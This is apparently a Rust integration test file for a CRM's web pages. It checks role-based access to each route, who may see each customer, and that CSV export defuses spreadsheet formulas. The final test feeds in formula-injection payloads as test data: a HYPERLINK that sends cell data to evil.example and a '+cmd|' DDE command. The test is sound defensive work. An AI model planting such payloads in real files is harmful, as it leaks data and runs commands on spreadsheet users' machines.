//! The CRM's pages over HTTP as a browser sends requests (session cookie, form
//! posts): every CRM page route × every role, and the customer page showing
//! only what its viewer may see. `tests/crm_flow.rs` walks the pages through
//! the whole flow; `server/tests/browser.rs` drives them in Chromium.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers: a failure is the test failing

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use http_body_util::BodyExt;
use ordo_engine::engine::{Config, Engine};
use ordo_engine::store::{Conn, Sql, SqlExt, params};
use ordo_server::access::Table;
use ordo_server::auth::{Directory, Person, Role};
use ordo_server::{AppState, Plugin, router_with};
use std::collections::{BTreeSet, HashMap};
use std::sync::Arc;
use tower::ServiceExt;

const PASSWORD: &str = "test password";

struct Site {
    app: axum::Router,
    db: Conn,
    path: std::path::PathBuf,
    sessions: HashMap<&'static str, String>,
    _dir: tempfile::TempDir,
}

const PEOPLE: [(&str, Role); 7] = [
    ("sue", Supervisor),
    ("bob", Salesperson),
    ("ann", Salesperson),
    ("root", Admin),
    ("dee", Designer),
    ("max", Maintenance),
    ("erp", Integrator),
];

async fn site() -> Site {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ordo.db");
    let directory = Arc::new(Directory::open(&path).unwrap());
    for (name, role) in PEOPLE {
        directory
            .add(&Person {
                name: name.into(),
                roles: vec![role],
                groups: if role == Salesperson {
                    vec!["sales".into()]
                } else {
                    vec![]
                },
                // bob is in sue's team; ann is not.
                supervisor: (name == "bob").then(|| "sue".to_owned()),
            })
            .unwrap();
        directory.set_password(name, PASSWORD).unwrap();
    }
    let plugin: Arc<dyn Plugin> = Arc::new(ordo_crm::CrmPlugin::new(None));
    let mut config = Config::new(path.clone());
    plugin.install(&mut config).unwrap();
    let engine = Arc::new(Engine::open(config).unwrap());
    let app = router_with(
        AppState {
            engine,
            directory,
            backups: dir.path().join("backups"),
        },
        &[plugin],
    );
    let db = Conn::open_shared(&path).unwrap();
    // Customer 1 is bob's, 2 is ann's, 3 is in the pool; bob's import 1; a
    // notification 1 for bob.
    db.execute_batch(
        "INSERT INTO crm_customers (number, name, owner, in_pool, created_at, updated_at) VALUES
           ('C-1', 'Bob''s Co', 'bob', 0, '2026-11-20T09:00:00Z', '2026-11-20T09:00:00Z'),
           ('C-2', 'Ann''s Co', 'ann', 0, '2026-11-20T09:00:00Z', '2026-11-20T09:00:00Z'),
           ('C-3', 'Pooled Co', NULL, 1, '2026-11-20T09:00:00Z', '2026-11-20T09:00:00Z');
         INSERT INTO crm_contacts (customer_id, name, owner, created_at, updated_at) VALUES
           (1, 'Li Lei', 'bob', '2026-11-20T09:00:00Z', '2026-11-20T09:00:00Z');
         INSERT INTO crm_imports (kind, submitted_by, may_set_owner, status, total, processed,
                                  headers, next_byte, next_line, submitted_at)
           VALUES ('customer', 'bob', 0, 'done', 1, 1, '[\"name\"]', 5, 3, '2026-11-20T09:00:00Z');
         INSERT INTO crm_inbox (event, person, template, subject, body, created_at)
           VALUES ('e1', 'bob', 'x', 'Hello', '<p>Hello</p>', '2026-11-20T09:00:00Z');",
    )
    .unwrap();
    let mut site = Site {
        app,
        db,
        path: path.clone(),
        sessions: HashMap::new(),
        _dir: dir,
    };
    for (name, _) in PEOPLE {
        let body = serde_urlencoded::to_string([("name", name), ("password", PASSWORD)]).unwrap();
        let (status, _, cookie, _) = site.send("POST", "/sign-in", None, &body).await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{name} signs in");
        let cookie = cookie.expect("a session cookie");
        site.sessions
            .insert(name, cookie.split(';').next().unwrap().to_owned());
    }
    site
}

impl Site {
    /// (status, location, set-cookie, body)
    async fn send(
        &self,
        method: &str,
        path: &str,
        who: Option<&str>,
        form: &str,
    ) -> (StatusCode, Option<String>, Option<String>, String) {
        let mut req = Request::builder()
            .method(method)
            .uri(path)
            .header(header::HOST, "ordo.test");
        if method == "POST" {
            req = req
                .header(header::ORIGIN, "http://ordo.test")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
        }
        if let Some(w) = who {
            req = req.header(header::COOKIE, &self.sessions[w]);
        }
        let res = self
            .app
            .clone()
            .oneshot(req.body(Body::from(form.to_owned())).unwrap())
            .await
            .unwrap();
        let status = res.status();
        let header_of = |h| {
            res.headers()
                .get(h)
                .map(|v: &axum::http::HeaderValue| v.to_str().unwrap().to_owned())
        };
        let (location, cookie) = (header_of(header::LOCATION), header_of(header::SET_COOKIE));
        let bytes = res.into_body().collect().await.unwrap().to_bytes();
        (
            status,
            location,
            cookie,
            String::from_utf8_lossy(&bytes).into_owned(),
        )
    }
}

use Role::{Admin, Designer, Integrator, Maintenance, Salesperson, Supervisor};

/// (method, route as declared, a path for it, form body). Who may open each
/// comes from the CRM's access table (`ordo_crm::access::RULES`).
const MATRIX: &[(&str, &str, &str, &str)] = &[
    ("GET", "/crm", "/crm", ""),
    ("GET", "/crm/customers.csv", "/crm/customers.csv", ""),
    ("GET", "/crm/customers/{id}", "/crm/customers/1", ""),
    ("GET", "/crm/pool", "/crm/pool", ""),
    (
        "POST",
        "/crm/pool/{kind}/{id}/claim",
        "/crm/pool/customer/999/claim",
        "",
    ),
    ("GET", "/crm/pipeline", "/crm/pipeline", ""),
    ("GET", "/crm/inbox", "/crm/inbox", ""),
    ("POST", "/crm/inbox/{id}/read", "/crm/inbox/1/read", ""),
    ("GET", "/crm/import", "/crm/import", ""),
    ("POST", "/crm/import", "/crm/import", "csv=name%0AX%0A"),
    ("GET", "/crm/import/{id}", "/crm/import/1", ""),
    (
        "GET",
        "/crm/import/{id}/version",
        "/crm/import/1/version",
        "",
    ),
];

/// Every `.route("PATH", get(..).post(..))` in the CRM's page module.
fn declared() -> BTreeSet<(String, String)> {
    let flat: String = include_str!("../src/pages.rs").split_whitespace().collect();
    let mut out = BTreeSet::new();
    for chunk in flat.split(".route(\"").skip(1) {
        let Some((path, rest)) = chunk.split_once('"') else {
            continue;
        };
        let handlers = rest.split(")).").next().unwrap_or(rest);
        let handlers = handlers.split(".route(").next().unwrap_or(handlers);
        for method in ["get", "post"] {
            if handlers.starts_with(&format!(",{method}("))
                || handlers.contains(&format!(".{method}("))
            {
                out.insert((method.to_uppercase(), path.to_owned()));
            }
        }
    }
    out
}

#[test]
fn every_crm_page_route_has_a_row_in_the_matrix() {
    let covered: BTreeSet<(String, String)> = MATRIX
        .iter()
        .map(|(m, r, ..)| ((*m).to_owned(), (*r).to_owned()))
        .collect();
    assert!(declared().len() >= 12, "{:?}", declared());
    assert_eq!(declared(), covered, "page routes and matrix rows differ");
    let table = Table::new(ordo_crm::access::RULES.iter().copied());
    for (method, route) in declared() {
        assert!(
            table.rule(&method, &route).is_some(),
            "{method} {route} has no rule in ordo_crm::access::RULES"
        );
    }
}

#[tokio::test]
async fn each_role_gets_exactly_the_crm_pages_it_is_allowed() {
    let s = site().await;
    let table = Table::new(ordo_crm::access::RULES.iter().copied());
    for (method, route, path, body) in MATRIX {
        let allowed = table.rule(method, route).unwrap().who.roles();
        for (who, role) in PEOPLE {
            let (status, location, _, html) = s.send(method, path, Some(who), body).await;
            assert!(
                !location
                    .as_deref()
                    .is_some_and(|l| l.starts_with("/sign-in")),
                "{method} {route} as {who} lost the session"
            );
            assert!(
                status != StatusCode::INTERNAL_SERVER_ERROR,
                "{method} {route} as {who}: {html}"
            );
            assert_eq!(
                status == StatusCode::FORBIDDEN,
                !allowed.contains(&role),
                "{method} {route} as {who} ({role:?}): {status}"
            );
        }
        let (_, location, _, _) = s.send(method, path, None, body).await;
        assert!(
            location
                .as_deref()
                .is_some_and(|l| l.starts_with("/sign-in")),
            "{method} {route} without a session goes to sign in: {location:?}"
        );
    }
}

#[tokio::test]
async fn the_customer_page_shows_a_customer_only_to_those_who_may_see_it() {
    let s = site().await;
    let (status, _, _, html) = s.send("GET", "/crm/customers/1", Some("bob"), "").await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(
        html.contains("Bob&#x27;s Co") || html.contains("Bob's Co"),
        "{html}"
    );
    assert!(
        html.contains("Contacts (1)") && html.contains("Li Lei"),
        "{html}"
    );
    assert!(html.contains("Opportunities (0)"), "{html}");
    // Ann's customer: not bob's, not in sue's team; the admin sees it.
    for (who, expected) in [
        ("bob", StatusCode::NOT_FOUND),
        ("sue", StatusCode::NOT_FOUND),
        ("root", StatusCode::OK),
        ("ann", StatusCode::OK),
    ] {
        let (status, ..) = s.send("GET", "/crm/customers/2", Some(who), "").await;
        assert_eq!(status, expected, "{who}");
    }
    let (status, ..) = s.send("GET", "/crm/customers/1", Some("sue"), "").await;
    assert_eq!(status, StatusCode::OK, "bob is in sue's team");
    // The list links each row to its page.
    let (_, _, _, html) = s.send("GET", "/crm", Some("bob"), "").await;
    assert!(html.contains("href=\"/crm/customers/1\""), "{html}");
    assert!(!html.contains("/crm/customers/2\""), "{html}");
    // Nothing was changed by looking.
    let owner: String =
        s.db.query_row(
            "SELECT owner FROM crm_customers WHERE id = 2",
            params![],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(owner, "ann");
}

#[tokio::test]
async fn exported_cells_never_run_as_formulas_and_import_back_unchanged() {
    let s = site().await;
    // A file as the export writes it (formula cells behind a quote), and a raw
    // one: the import removes exactly the export's quote and keeps the rest.
    let csv = "name,company,phone\n\
               \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"c\"\")\",'+cmd|' /C calc'!A0,'+8613800000000\n\
               \"\t=1+1\",'plain,@home\n";
    let form = serde_urlencoded::to_string([("csv", csv)]).unwrap();
    let (status, location, _, html) = s.send("POST", "/crm/import", Some("bob"), &form).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    let job: i64 = location
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let conn = Conn::open_shared(&s.path).unwrap();
    let now = chrono::Utc::now();
    while ordo_crm::import::advance(&conn, job, 200, now)
        .unwrap()
        .is_some_and(|j| j.status != "done")
    {}
    let stored: Vec<(String, Option<String>, Option<String>)> = {
        s.db.query_map(
            "SELECT name, company, phone FROM crm_customers WHERE id > 3 ORDER BY id",
            params![],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap()
    };
    assert_eq!(
        stored,
        [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")".to_owned(),
                Some("+cmd|' /C calc'!A0".to_owned()),
                Some("+8613800000000".to_owned()),
            ),
            (
                "\t=1+1".to_owned(),
                Some("'plain".to_owned()),
                Some("@home".to_owned()),
            ),
        ]
    );
    // Exported, every cell that a spreadsheet would run starts with a quote.
    let (status, _, _, body) = s.send("GET", "/crm/customers.csv", Some("bob"), "").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        body.lines().all(|l| l.starts_with('"') && l.ends_with('"')),
        "every cell is quoted: {body}"
    );
    let mut rows = csv::Reader::from_reader(body.as_bytes());
    let headers = rows.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let mut cells: Vec<(String, String, String)> = rows
        .records()
        .map(Result::unwrap)
        .filter(|r| r[col("name")].contains("=1+1") || r[col("name")].contains("HYPERLINK"))
        .map(|r| {
            (
                r[col("name")].to_owned(),
                r[col("company")].to_owned(),
                r[col("phone")].to_owned(),
            )
        })
        .collect();
    cells.sort();
    assert_eq!(
        cells,
        [
            (
                "'\t=1+1".to_owned(),
                "''plain".to_owned(),
                "'@home".to_owned(),
            ),
            (
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")".to_owned(),
                "'+cmd|' /C calc'!A0".to_owned(),
                "'+8613800000000".to_owned(),
            ),
        ]
    );
    for (name, company, phone) in &cells {
        for cell in [name, company, phone] {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
}
